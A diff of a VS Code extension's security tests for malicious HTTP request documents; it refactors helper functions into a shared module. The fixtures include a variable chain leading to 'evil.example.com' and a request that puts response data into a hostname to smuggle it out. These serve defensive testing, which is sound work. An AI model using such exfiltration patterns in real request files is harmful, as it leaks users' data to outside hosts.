@@ -6,6 +6,7 @@ import * as vscode from 'vscode';
 import type { SandboxApplication } from '../../../src/sandbox/sandbox';
 import { argumentOf, rejection, run, useSandbox, writeApplications } from './fixture';
 import { withPerson } from './person';
+import { openRequest, sendRequest } from './requestDocuments';
 import { useHints } from './withoutLenses';
 
 /** A file system that marks some entries as links, like that of a remote window; their targets are unknown. */
@@ -43,15 +44,6 @@ function registerLinkedFiles(): vscode.Disposable {
 function entryOf({ name, clientId, serverDomain, authUrl, environments }: SandboxApplication) {
   return { name, clientId, serverDomain, authUrl, environments };
 }
-
-async function open(lines: string[]): Promise<vscode.TextDocument> {
-  const document = await vscode.workspace.openTextDocument({ language: 'hydrogen-http', content: lines.join('\n') });
-  await vscode.window.showTextDocument(document);
-  return document;
-}
-
-const send = ({ uri }: vscode.TextDocument, index = 0) =>
-  vscode.commands.executeCommand('hydrogen.request.send', uri, index);
 
 async function titlesOf(document: vscode.TextDocument): Promise<string[]> {
   const lenses = await vscode.commands.executeCommand<vscode.CodeLens[]>(
@@ -94,11 +86,11 @@ describe('a malicious request document', () => {
         ];
         const before = arrived();
         for (const attack of headers) {
-          await send(await open([`@e = ${guarded}`, `@c = ${blog.clientId}`, write, ...attack, ...body]));
+          await sendRequest(await openRequest([`@e = ${guarded}`, `@c = ${blog.clientId}`, write, ...attack, ...body]));
         }
         assert.equal(arrived(), before);
         // The request goes to the target in its code lens.
-        await send(await open([write, ...body]));
+        await sendRequest(await openRequest([write, ...body]));
         assert.equal(arrived(), before + 1);
         const { environment } = service().sandbox.requests.at(-1) ?? assert.fail();
         assert.equal(environment, service().shop.environments[0]?.envId);
@@ -107,7 +99,7 @@ describe('a malicious request document', () => {
       it('cannot write there by naming it either', async () => {
         const before = arrived();
         // The test host refuses to show a question.
-        await send(await open(['# @environment Guarded', write, ...body]));
+        await sendRequest(await openRequest(['# @environment Guarded', write, ...body]));
         assert.equal(arrived(), before);
       });
     });
@@ -125,7 +117,7 @@ describe('a malicious request document', () => {
       const variables = { '*': { away: 'https://evil.example.com' } };
       await settings().update('variables', variables, vscode.ConfigurationTarget.Global);
       const chain = Array.from({ length: 20 }, (_, index) => `@v${index} = {{v${index + 1}}}`);
-      const document = await open([
+      const document = await openRequest([
         ...chain,
         '@v20 = {{away}}',
         ...['# @name groups', 'GET /hserve/v1/content/group/?limit=1'],
@@ -133,7 +125,7 @@ describe('a malicious request document', () => {
         ...['###', 'GET https://{{groups.response.body.meta.total_count}}.example.com/'],
         ...['###', 'GET {{$prompt where?}}'],
       ]);
-      await send(document);
+      await sendRequest(document);
       const [name] = service().shop.environments.map(environment => environment.name);
       assert.deepEqual(
         (await titlesOf(document)).map(title => title.replace(/^Send · .* · /, '')),
@@ -175,10 +167,10 @@ describe('a malicious request document', () => {
         const uri = vscode.Uri.parse('linked:/work/links.hydrogen.http');
         const document = await vscode.window.showTextDocument(uri).then(editor => editor.document);
         const before = arrived();
-        await send(document, 1);
-        await send(document, 2);
+        await sendRequest(document, 1);
+        await sendRequest(document, 2);
         assert.equal(arrived(), before);
-        await send(document, 0);
+        await sendRequest(document, 0);
         assert.equal(arrived(), before + 1);
       } finally {
         await vscode.commands.executeCommand('workbench.action.closeActiveEditor');
@@ -208,9 +200,9 @@ describe('a malicious request document', () => {
     /** The questions when requests of a document are sent one after the other. */
     async function questions(lines: string[], indices = [0], answers: string[] = []) {
       const left = [...answers];
-      const document = await open(lines);
+      const document = await openRequest(lines);
       const sendAll = async () => {
-        for (const index of indices) await send(document, index);
+        for (const index of indices) await sendRequest(document, index);
       };
       return withPerson(() => left.shift(), sendAll);
     }
